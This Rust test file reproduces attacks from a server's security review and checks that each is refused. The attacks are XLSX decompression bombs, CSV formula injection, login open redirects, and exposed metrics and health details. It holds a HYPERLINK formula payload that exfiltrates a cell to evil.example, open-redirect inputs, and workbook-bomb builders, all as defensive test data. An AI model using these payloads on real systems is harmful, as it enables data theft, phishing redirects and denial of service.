//! The attacks of the adversarial review (issue 35), each reproduced against the real server
//! over HTTP and refused: one test per attack, named after it, readable top to bottom.
//!
//! Decompression bombs: a token that may send counter-referrals posts workbooks built to fill
//! the server's memory — five million cells naming one shared string in a file of kilobytes,
//! five million distinct shared strings, a sheet of a million honest-looking rows. Each is
//! refused with a Spanish message naming the file and the limit, and the server's resident
//! memory (its peak included, read from `/proc`) stays within a bound while it reads them.
//! The workbooks are built by `vamos_ingest::fuzzing`; the ingest crate's `bombs` tests try
//! every limit on its own.
//!
//! CSV formula injection: a name, a rejected value or an audit purpose such as
//! `=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")` reaches the CSV files other people
//! open in a spreadsheet (the referral list, the rejection report, the audit export). Each is
//! written with an apostrophe in front, so the spreadsheet shows it as text; numbers stay numbers
//! (`vamos_domain::csv_safe` tries every dangerous first character on its own).
//!
//! The web's edges (item 12, and item 8's open redirect): a return path after login that a
//! browser would follow to another site, HSTS that depended on a flag, readiness and metrics
//! (the registry's size) open to anyone, a health check naming the version, request-parsing
//! errors in English plain text, and a DCI expression too large for the database's SQL.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use serde_json::Value;
use std::io::Write;
use std::path::Path;

mod common;
use common::*;

/// A field of the server's `/proc/<pid>/status`, in kB (`VmRSS`, `VmHWM`).
fn memory_kb(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| {
            l.strip_prefix(field)?
                .trim_start_matches(':')
                .split_whitespace()
                .next()
        })
        .unwrap()
        .parse()
        .unwrap()
}

/// Posts a file to `/api/counter-referrals/file` as a workbook.
fn post_workbook(s: &Server, token: &str, body: &[u8]) -> (u16, Value) {
    let resp = agent()
        .post(format!("{}/api/counter-referrals/file", s.base))
        .header("authorization", format!("Bearer {token}"))
        .header(
            "content-type",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// A registry with an MSPBS operator of Villeta, and its token that may send counter-referrals.
fn operator_token(url: &str, d: &Path) -> String {
    init_db(url, d);
    let o = vamos(
        &[
            "user",
            "create",
            "--db",
            url,
            "hospital",
            "--role",
            "operador",
            "--institution",
            "MSPBS",
            "--territories",
            "1116",
        ],
        d,
        &[("VAMOS_PASSWORD", PW)],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = vamos(
        &[
            "token",
            "create",
            "--db",
            url,
            "--user",
            "hospital",
            "--name",
            "his",
            "--days",
            "1",
            "--scopes",
            "contrarreferencias:enviar",
        ],
        d,
        &[],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// The header row of a counter-referral sheet, as inline strings.
const HEADER: &[u8] = br#"<row r="1"><c r="A1" t="inlineStr"><is><t>id_evento</t></is></c><c r="B1" t="inlineStr"><is><t>cedula</t></is></c><c r="C1" t="inlineStr"><is><t>servicio</t></is></c><c r="D1" t="inlineStr"><is><t>fecha_entrega</t></is></c></row>"#;

/// The three bombs, each with what its refusal must say.
fn bombs(dir: &Path) -> Vec<(&'static str, Vec<u8>, &'static str)> {
    use vamos_ingest::fuzzing::{write_xlsx, PartWriter};
    let build = |name: &str, sheet: PartWriter<'_>, shared: PartWriter<'_>| {
        let path = dir.join(name);
        write_xlsx(&path, sheet, Some(shared)).unwrap();
        std::fs::read(path).unwrap()
    };
    let one_string = build(
        "una_cadena.xlsx",
        &mut |w| {
            let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
            b.write_all(HEADER)?;
            let row = br#"<row><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c></row>"#;
            for _ in 0..1_000_000 {
                b.write_all(row)?;
            }
            b.flush()
        },
        &mut |w| w.write_all(b"<si><t>1234567</t></si>"),
    );
    let strings = build("cadenas.xlsx", &mut |w| w.write_all(HEADER), &mut |w| {
        let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
        for i in 0..5_000_000u32 {
            write!(b, "<si><t>{i:07}</t></si>")?;
        }
        b.flush()
    });
    let rows = build(
        "filas.xlsx",
        &mut |w| {
            let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
            b.write_all(HEADER)?;
            for r in 2..=1_000_001u32 {
                write!(
                    b,
                    r#"<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="s"><v>0</v></c><c r="C{r}" t="s"><v>1</v></c><c r="D{r}" t="s"><v>2</v></c></row>"#
                )?;
            }
            b.flush()
        },
        &mut |w| {
            w.write_all(b"<si><t>1234567</t></si><si><t>control_prenatal</t></si><si><t>2026-11-20</t></si>")
        },
    );
    vec![
        (
            "cinco millones de celdas de una cadena",
            one_string,
            "más de 100 a 1",
        ),
        (
            "cinco millones de cadenas",
            strings,
            "más de 2000000 textos distintos",
        ),
        ("un millón de filas", rows, "más de 200001 filas"),
    ]
}

#[test]
fn a_workbook_bomb_posted_as_counter_referrals_is_refused_within_bounded_memory() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let token = operator_token(&db.url, d.path());
    let bombs = bombs(d.path());
    // What is tested is the refusal and the memory, not the request timeout: a debug build on a
    // loaded machine reads a million rows slowly.
    let s = common::start_with(&db.url, d.path(), &[("VAMOS_REQUEST_TIMEOUT_SECS", "600")]);
    let pid = s.child.id();
    let before = memory_kb(pid, "VmRSS");
    for (what, body, reason) in &bombs {
        let (status, v) = post_workbook(&s, &token, body);
        let message = v["error"]["message"].as_str().unwrap_or_default();
        assert_eq!(status, 400, "{what}: {v}");
        assert!(
            message.contains("«contrarreferencias.xlsx") && message.contains(reason),
            "{what}: {message}"
        );
        let (now, peak) = (memory_kb(pid, "VmRSS"), memory_kb(pid, "VmHWM"));
        eprintln!(
            "{what} ({} bytes): resident {before} kB before, {now} kB after, peak {peak} kB",
            body.len()
        );
        assert!(
            peak.saturating_sub(before) < 300 * 1024,
            "{what}: the server's memory grew from {before} kB to a peak of {peak} kB"
        );
    }
    // The server still answers.
    let (status, _, _) = call(&s, &Who::default(), "get", "/api/health", None);
    assert_eq!(status, 200);
}

/// A cell that a spreadsheet runs as a formula, sending the neighbouring cell away.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")"#;

/// `cell` as the CSV writer quotes it (the formula's quotes doubled), with the apostrophe.
fn neutralised(cell: &str) -> String {
    format!("\"'{}\"", cell.replace('"', "\"\""))
}

#[test]
fn a_formula_in_a_name_is_neutralised_in_the_referral_csv() {
    let row = serde_json::json!({
        "id": 7,
        "priority": -5,
        "district_code": "1116",
        "person": {"given_names": HYPERLINK, "family_names": "@SUM(1+1)"},
    });
    let csv = vamos_app::referrals::report_csv(&[row]).unwrap();
    let csv = String::from_utf8(csv).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains(",'@SUM(1+1)"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
    // Numbers stay numbers, negative ones included.
    assert!(csv.contains("\n7,,-5,"), "{csv}");
}

#[test]
fn a_formula_in_a_purpose_is_neutralised_in_the_audit_export() {
    let row = vamos_store::audit::AuditRow {
        id: 1,
        at: "2025-01-01T00:00:00Z".into(),
        actor: "ana".into(),
        role: Some("operador".into()),
        institution: Some("MSPBS".into()),
        action: "leer persona".into(),
        subject_kind: "persona".into(),
        subject_id: "-12".into(),
        purpose: HYPERLINK.into(),
        request_id: None,
        outcome: "+ok".into(),
        prev_hash: None,
        hash: None,
    };
    let csv = vamos_app::audit::audit_csv(&[row]).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains("\"'+ok\""), "{csv}");
    assert!(csv.contains("\"-12\""), "{csv}");
}

#[test]
fn a_formula_in_a_rejected_value_is_neutralised_in_the_rejection_report() {
    let d = tempfile::tempdir().unwrap();
    let path = d.path().join("rechazos.csv");
    let mut log = vamos_ingest::report::RejectionLog::new(Some(&path)).unwrap();
    log.reject_row(vec![vamos_ingest::report::Rejection {
        file: "hogares.csv".into(),
        row: 2,
        column: "cedula".into(),
        value: HYPERLINK.into(),
        reason: "-cédula inválida".into(),
        key: "\t=1+2".into(),
    }])
    .unwrap();
    log.finish().unwrap();
    let csv = std::fs::read_to_string(&path).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains(",'-cédula inválida,"), "{csv}");
    assert!(csv.contains(",'\t=1+2\n"), "{csv}");
    assert!(csv.contains("hogares.csv,2,cedula,"), "{csv}");
}

/// An agent that reports redirects instead of following them.
fn no_redirects() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .max_redirects(0)
        .build()
        .into()
}

/// The value of the hidden field `name` of a form.
fn hidden(body: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let i = body
        .find(&marker)
        .unwrap_or_else(|| panic!("no {name} in {body}"))
        + marker.len();
    body[i..]
        .split('"')
        .next()
        .unwrap()
        .replace("&#x2f;", "/")
        .replace("&amp;", "&")
}

#[test]
fn a_login_return_path_cannot_leave_the_site() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let a = no_redirects();
    for (query, posted) in [
        ("/%09/evil.example/x", "/\t/evil.example/x"),
        ("//evil.example/x", "//evil.example/x"),
        ("/%5Cevil.example/x", "/\\evil.example/x"),
        ("https://evil.example/", "https://evil.example/"),
        ("/%0A/evil.example", "/\n/evil.example"),
    ] {
        let resp = a
            .get(format!("{}/ingresar?volver={query}", s.base))
            .call()
            .unwrap();
        let cookie = resp
            .headers()
            .get_all("set-cookie")
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find(|c| c.starts_with("vamos_ingreso="))
            .and_then(|c| c.split(';').next())
            .unwrap()
            .to_string();
        let page = resp.into_body().read_to_string().unwrap();
        assert_eq!(hidden(&page, "volver"), "/", "{query}");
        let resp = a
            .post(format!("{}/ingresar", s.base))
            .header("cookie", &cookie)
            .send_form([
                ("usuario", "admin"),
                ("clave", PW),
                ("token", hidden(&page, "token").as_str()),
                ("volver", posted),
            ])
            .unwrap();
        assert_eq!(resp.status().as_u16(), 303, "{posted:?}");
        assert_eq!(resp.headers()["location"], "/", "{posted:?}");
    }
}

#[test]
fn hsts_is_sent_when_the_public_url_is_https() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let hsts = |public_url: &str| {
        let s = start_with(&db.url, d.path(), &[("VAMOS_PUBLIC_URL", public_url)]);
        let resp = agent()
            .get(format!("{}/api/health", s.base))
            .call()
            .unwrap();
        resp.headers()
            .get("strict-transport-security")
            .map(|v| v.to_str().unwrap().to_string())
    };
    assert_eq!(
        hsts("https://vamos.gov.py").as_deref(),
        Some("max-age=31536000; includeSubDomains")
    );
    assert_eq!(hsts("http://127.0.0.1:8080"), None);
}

#[test]
fn metrics_and_readiness_need_a_monitoring_token() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let other = operator_token(&db.url, d.path());
    let monitor = monitoring(&db.url, d.path(), "prometheus");
    let s = start(&db.url, d.path());
    let operator = Who {
        bearer: Some(other),
        ..Who::default()
    };
    for path in ["/api/ready", "/metrics"] {
        let (st, v, _) = call(&s, &Who::default(), "get", path, None);
        assert_eq!(st, 401, "{path}: {v}");
        assert_eq!(v["error"]["code"], "no_autenticado", "{path}");
        let (st, v, _) = call(&s, &operator, "get", path, None);
        assert_eq!(st, 403, "{path}: {v}");
        let (st, v, _) = call(&s, &monitor, "get", path, None);
        assert_eq!(st, 200, "{path}: {v}");
    }
    let (_, ready, _) = call(&s, &monitor, "get", "/api/ready", None);
    assert_eq!(ready["version"], env!("CARGO_PKG_VERSION"), "{ready}");
}

#[test]
fn health_does_not_reveal_the_version() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let (st, v, _) = call(&s, &Who::default(), "get", "/api/health", None);
    assert_eq!((st, v), (200, serde_json::json!({"status": "ok"})));
}

/// Posts `body` to `path` with `content_type`, answering status, content type and body.
fn post_raw(s: &Server, path: &str, content_type: &str, body: &str) -> (u16, String, Value) {
    let resp = agent()
        .post(format!("{}{path}", s.base))
        .header("content-type", content_type)
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let ct = resp.headers()["content-type"].to_str().unwrap().to_string();
    let text = resp.into_body().read_to_string().unwrap();
    (
        status,
        ct,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

#[test]
fn a_malformed_json_body_gets_the_spanish_json_error() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    for (content_type, body, status, message) in [
        (
            "application/json",
            r#"{"username": "admin""#,
            400,
            "el cuerpo no es JSON válido: el JSON termina antes de tiempo (línea 1, columna 20)",
        ),
        (
            "application/json",
            r#"{"username": "admin"}"#,
            422,
            "el cuerpo no tiene la forma esperada: falta el campo «password» (línea 1, columna 21)",
        ),
        (
            "text/plain",
            r#"{"username": "admin", "password": "x"}"#,
            415,
            "el cuerpo debe ser JSON: envíe la cabecera «Content-Type: application/json»",
        ),
    ] {
        let (st, ct, v) = post_raw(&s, "/api/session", content_type, body);
        assert_eq!(st, status, "{body}: {v}");
        assert_eq!(ct, "application/json", "{body}");
        assert_eq!(v["error"]["code"], "solicitud_invalida", "{body}");
        assert_eq!(v["error"]["message"], message, "{body}");
    }
    let admin = login(&s, "admin", PW);
    let (st, v, _) = call(&s, &admin, "get", "/api/persons?limit=muchos", None);
    assert_eq!(st, 400, "{v}");
    assert_eq!(
        v["error"]["message"],
        "parámetros de consulta inválidos: el campo «limit» tiene un valor inválido"
    );
    let (st, v, _) = call(&s, &admin, "get", "/api/persons/uno", None);
    assert_eq!(
        (st, &v["error"]["message"]),
        (400, &serde_json::json!("la ruta tiene un valor inválido"))
    );
}

#[test]
fn an_oversized_dci_expression_gets_a_dci_error() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let url = db.url.as_str();
    init_db(url, d.path());
    let run = |args: &[&str]| {
        let o = vamos(args, d.path(), &[("VAMOS_PASSWORD", PW)]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    run(&["user", "create", "--db", url, "his", "--role", "analista"]);
    let token = run(&[
        "token", "create", "--db", url, "--user", "his", "--name", "HIS", "--scopes", "dci",
    ]);
    run(&[
        "dci",
        "sender",
        "add",
        "--db",
        url,
        "--id",
        "his.mspbs",
        "--user",
        "his",
    ]);
    let s = start(url, d.path());
    let his = Who {
        bearer: Some(token),
        ..Who::default()
    };
    // Five thousand alternatives (about 100 KB): more than the SQL of a search may hold.
    let search = |n: usize, id: &str| {
        let any: Vec<Value> = (0..n).map(|i| serde_json::json!({"UIN": i})).collect();
        serde_json::json!({
            "header": {"version": "1.0.0", "message_id": id, "message_ts": "2026-11-23T10:00:00-03:00",
                "action": "search", "sender_id": "his.mspbs", "receiver_id": "siis.gov.py",
                "total_count": 1, "is_msg_encrypted": false},
            "message": {"transaction_id": "t-1", "search_request": [{
                "reference_id": "r1", "timestamp": "2026-11-23T10:00:00-03:00",
                "search_criteria": {"reg_type": "ns:org:RegistryType:Social",
                    "query_type": "expression", "query": {"$or": any},
                    "consent": {"purpose": {"text": "prueba"}}}}]}
        })
    };
    let (st, v, _) = call(
        &s,
        &his,
        "post",
        "/dci/registry/sync/search",
        Some(search(5000, "m-1")),
    );
    assert_eq!(st, 200, "{v}");
    let item = &v["message"]["search_response"][0];
    assert_eq!(item["status"], "rjct", "{item}");
    assert_eq!(item["status_reason_code"], "rjct.filter.invalid", "{item}");
    assert!(
        item["status_reason_message"]
            .as_str()
            .unwrap()
            .contains("consulta demasiado grande"),
        "{item}"
    );
    // The largest admitted is answered.
    let (st, v, _) = call(
        &s,
        &his,
        "post",
        "/dci/registry/sync/search",
        Some(search(500, "m-2")),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["message"]["search_response"][0]["status"], "succ", "{v}");
}

// ---------------------------------------------------------------------------------------------
// Public figures (item 7) and the Logros permission's scope (item 11): the public figures come
// only from a measurement an analyst publishes — a counter-referral moves the live figures
// within seconds, and a public figure that moved with one delivery would tell whoever knew
// when a person was served that person's attributes — and an account reads unsuppressed
// Logros only of its own territories. One scenario per backend, run once, each step kept for
// the test that checks it. (The suppression rule itself — no published cell is the difference
// of two published cells — is tested over tables in `vamos_app::suppression`.)

/// What each step of the publication scenario answered.
struct Publication {
    label: &'static str,
    m: i64,
    /// `/api/public/logros` and the public page before anything was published.
    public_before: (u16, Value),
    page_before: String,
    /// Publishing refused: a Mesa member's session, nobody, the command line as that member.
    mesa_publish: u16,
    anonymous_publish: u16,
    command_line_mesa_publish: Option<i32>,
    /// The analyst's publication.
    analyst_publish: (u16, Value),
    /// Public figures after publishing, after a counter-referral, after publishing again.
    public_published: Value,
    public_after_counter_referral: Value,
    public_republished: Value,
    /// The live Logros of Villeta (analyst) before and after the counter-referral.
    live_before: Value,
    live_after: Value,
    /// `(actor, subject, outcome)` of every audit record of a publication.
    audited: Vec<(String, String, String)>,
    /// A Mesa member of San Juan Nepomuceno (0607) reading `/api/logros` of: its district, Villeta
    /// (1116), its department (06), the nation.
    mesa_own: (u16, Value),
    mesa_villeta: (u16, Value),
    mesa_department: u16,
    mesa_nation: u16,
    /// The same member's dashboard of its district and of Villeta.
    mesa_page_own: String,
    mesa_page_villeta: String,
    /// The analyst's dashboard (it may publish), and what its publish form answered.
    analyst_page: String,
    form_publish: u16,
    _server: Server,
    _db: vamos_store::testing::TestDb,
    _dir: tempfile::TempDir,
}

static PUBLICATIONS: std::sync::LazyLock<Vec<Publication>> = std::sync::LazyLock::new(|| {
    vamos_store::testing::all_dbs()
        .into_iter()
        .map(publication)
        .collect()
});

fn ok(o: &std::process::Output) {
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

#[allow(clippy::too_many_lines)] // reason: one scenario, its steps in order, read top to bottom
fn publication(db: vamos_store::testing::TestDb) -> Publication {
    use vamos_store::testing::RawSql;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let url = db.url.clone();
    let url = url.as_str();
    synth_pilots(d, "400", "11");
    init_db(url, d);
    ok(&vamos(
        &[
            "import",
            "fips",
            "--db",
            url,
            "datos",
            "--date",
            "2026-11-23",
        ],
        d,
        &[],
    ));
    let o = vamos(&["classify", "--db", url, "--as-of", "2026-11-23"], d, &[]);
    ok(&o);
    let m: i64 = String::from_utf8_lossy(&o.stdout)
        .lines()
        .last()
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    for (user, role, territories) in [
        ("analista", "analista", None),
        ("mesa_sjn", "mesa", Some("0607")),
    ] {
        let mut args = vec!["user", "create", "--db", url, user, "--role", role];
        if let Some(t) = territories {
            args.extend(["--territories", t]);
        }
        ok(&vamos(&args, d, &[("VAMOS_PASSWORD", PW)]));
    }
    let token = operator_token(url, d);
    ok(&vamos(
        &[
            "agreement",
            "create",
            "--db",
            url,
            "--institution",
            "MSPBS",
            "--fields",
            "given_names,family_names,national_id,district_code",
            "--purpose",
            "referencia de servicios de salud",
            "--from",
            "2026-01-01",
            "--to",
            "2030-12-31",
        ],
        d,
        &[],
    ));
    ok(&vamos(&["referrals", "generate", "--db", url], d, &[]));
    let monitor = monitoring(url, d, "monitoreo");
    let s = start(url, d);
    let nobody = Who::default();
    let analyst = login(&s, "analista", PW);
    let mesa = login(&s, "mesa_sjn", PW);
    let public = |who: &Who| call(&s, who, "get", "/api/public/logros?territory=PY", None);
    let page = |who: &Who, path: &str| match call(&s, who, "get", path, None).1 {
        Value::String(html) => html,
        v => v.to_string(),
    };

    let (st, v, _) = public(&nobody);
    let public_before = (st, v);
    let page_before = page(&nobody, "/logros");
    let publish_path = format!("/api/measurements/{m}/publish");
    let mesa_publish = call(&s, &mesa, "post", &publish_path, None).0;
    let anonymous_publish = call(&s, &nobody, "post", &publish_path, None).0;
    let command_line_mesa_publish = vamos(
        &["measurements", "publish", &m.to_string(), "--db", url],
        d,
        &[("VAMOS_USER", "mesa_sjn")],
    )
    .status
    .code();
    let (st, v, _) = call(&s, &analyst, "post", &publish_path, None);
    let analyst_publish = (st, v);
    let public_published = public(&nobody).1;

    // A counter-referral for a person of Villeta that MSPBS was referred.
    for _ in 0..300 {
        let (_, ready, _) = call(&s, &monitor, "get", "/api/ready", None);
        if ready["counter_referral_intake"]["referrals"]["state"] == "ready" {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let live = || call(&s, &analyst, "get", "/api/logros?territory=1116", None).1;
    let live_before = live();
    let his = Who {
        bearer: Some(token),
        ..Who::default()
    };
    let (_, list, _) = call(
        &s,
        &his,
        "get",
        "/api/referrals?territory=1116&limit=1000",
        None,
    );
    // The operator's token may only send counter-referrals: read the list as the analyst.
    let list = if list["items"].is_array() {
        list
    } else {
        call(
            &s,
            &analyst,
            "get",
            "/api/referrals?territory=1116&institution=MSPBS&limit=1000",
            None,
        )
        .1
    };
    let target = list["items"]
        .as_array()
        .unwrap_or_else(|| panic!("{list}"))
        .iter()
        .find(|i| i["unit_kind"] == "persona")
        .expect("a person referral")
        .clone();
    let event = serde_json::json!({"event_id": "PUB-1", "person_id": target["unit_id"], "service": target["service"], "delivered_on": "2026-11-20", "place": "USF Villeta", "place_district": 1116});
    let (st, v, _) = call(&s, &his, "post", "/api/counter-referrals", Some(event));
    assert_eq!(st, 201, "{v}");
    let mut live_after = live();
    for _ in 0..200 {
        if live_after["logros"] != live_before["logros"] {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
        live_after = live();
    }
    let public_after_counter_referral = public(&nobody).1;
    ok(&vamos(
        &["measurements", "publish", &m.to_string(), "--db", url],
        d,
        &[("VAMOS_USER", "analista")],
    ));
    let public_republished = public(&nobody).1;

    let audited = vamos_store::open(url)
        .unwrap()
        .db()
        .query(
            "SELECT actor, subject_id, outcome FROM audit_log WHERE action = 'publicar' ORDER BY id",
            &[],
        )
        .unwrap()
        .iter()
        .map(|r| (r.text(0), r.text(1), r.text(2)))
        .collect();

    let logros = |t: &str| {
        call(
            &s,
            &mesa,
            "get",
            &format!("/api/logros?territory={t}"),
            None,
        )
    };
    let (st, v, _) = logros("0607");
    let mesa_own = (st, v);
    let (st, v, _) = logros("1116");
    let mesa_villeta = (st, v);
    let mesa_department = logros("06").0;
    let mesa_nation = logros("PY").0;
    let mesa_page_own = page(&mesa, "/logros?t=0607");
    let mesa_page_villeta = page(&mesa, "/logros?t=1116");
    let analyst_page = page(&analyst, "/logros?t=1116");
    // The page's button is a form posting the session's CSRF token.
    let no_redirects: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .max_redirects(0)
        .build()
        .into();
    let form_publish = no_redirects
        .post(format!("{}/logros/publicar", s.base))
        .header(
            "cookie",
            format!("vamos_sesion={}", analyst.cookie.clone().unwrap()),
        )
        .send_form([
            ("csrf", analyst.csrf.clone().unwrap()),
            ("medicion", m.to_string()),
            ("t", "1116".to_string()),
        ])
        .unwrap()
        .status()
        .as_u16();
    Publication {
        label: db.label,
        m,
        public_before,
        page_before,
        mesa_publish,
        anonymous_publish,
        command_line_mesa_publish,
        analyst_publish,
        public_published,
        public_after_counter_referral,
        public_republished,
        live_before,
        live_after,
        audited,
        mesa_own,
        mesa_villeta,
        mesa_department,
        mesa_nation,
        mesa_page_own,
        mesa_page_villeta,
        analyst_page,
        form_publish,
        _server: s,
        _db: db,
        _dir: dir,
    }
}

#[test]
fn nothing_is_public_until_a_measurement_is_published() {
    for p in PUBLICATIONS.iter() {
        let (st, v) = &p.public_before;
        assert_eq!(*st, 404, "{}: {v}", p.label);
        assert!(
            v.to_string()
                .contains("un analista debe publicar una medición"),
            "{}: {v}",
            p.label
        );
        assert!(
            p.page_before
                .contains("Todavía no hay mediciones publicadas")
                && p.page_before.contains("un analista publica"),
            "{}: {}",
            p.label,
            p.page_before
        );
    }
}

#[test]
fn publishing_a_measurement_is_audited_and_needs_permission() {
    for p in PUBLICATIONS.iter() {
        let label = p.label;
        assert_eq!(p.mesa_publish, 403, "{label}");
        assert_eq!(p.anonymous_publish, 401, "{label}");
        assert_eq!(p.command_line_mesa_publish, Some(2), "{label}");
        let (st, v) = &p.analyst_publish;
        assert_eq!(*st, 200, "{label}: {v}");
        assert_eq!(v["measurement"], p.m, "{label}: {v}");
        assert_eq!(v["published_by"], "analista", "{label}: {v}");
        let m = p.m.to_string();
        let row = |actor: &str, outcome: &str| (actor.to_string(), m.clone(), outcome.to_string());
        assert_eq!(
            p.audited,
            vec![
                row("mesa_sjn", "denegado"),
                row("mesa_sjn (línea de órdenes)", "denegado"),
                row("analista", "ok: publicada"),
                row("analista (línea de órdenes)", "ok: publicada"),
            ],
            "{label}"
        );
    }
}

#[test]
fn public_figures_do_not_move_until_a_measurement_is_published() {
    for p in PUBLICATIONS.iter() {
        let label = p.label;
        // The live figures moved with the counter-referral…
        assert_ne!(
            p.live_before["logros"], p.live_after["logros"],
            "{label}: the updater did not run"
        );
        assert_eq!(p.public_published["measurement"]["id"], p.m, "{label}");
        // …the public ones did not, to the cell…
        assert_eq!(
            p.public_after_counter_referral, p.public_published,
            "{label}"
        );
        // …until the measurement was published again.
        assert_ne!(
            p.public_republished["logros"], p.public_published["logros"],
            "{label}"
        );
    }
}

#[test]
fn a_mesa_reads_unsuppressed_logros_only_in_its_territory() {
    for p in PUBLICATIONS.iter() {
        let label = p.label;
        let (st, v) = &p.mesa_own;
        assert_eq!(*st, 200, "{label}: {v}");
        assert_eq!(v["territory"]["code"], "0607", "{label}");
        let (st, v) = &p.mesa_villeta;
        assert_eq!(*st, 403, "{label}: {v}");
        assert!(
            v["error"].to_string().contains("fuera de su ámbito"),
            "{label}: {v}"
        );
        assert_eq!(p.mesa_department, 403, "{label}");
        assert_eq!(p.mesa_nation, 403, "{label}");
        // On the dashboard: its own district live, Villeta only as the public figures.
        assert!(
            !p.mesa_page_own.contains("fuera del ámbito de su cuenta"),
            "{label}"
        );
        assert!(
            p.mesa_page_villeta
                .contains("fuera del ámbito de su cuenta")
                && p.mesa_page_villeta.contains("Cifras públicas"),
            "{label}: {}",
            p.mesa_page_villeta
        );
    }
}

#[test]
fn the_dashboard_offers_publishing_only_to_who_may_publish() {
    for p in PUBLICATIONS.iter() {
        let label = p.label;
        assert!(
            p.analyst_page.contains("Publicar la medición")
                && p.analyst_page.contains("action=\"/logros/publicar\"")
                && p.analyst_page.contains("publicada el"),
            "{label}: {}",
            p.analyst_page
        );
        assert!(!p.mesa_page_own.contains("/logros/publicar"), "{label}");
        assert_eq!(p.form_publish, 303, "{label}");
    }
}
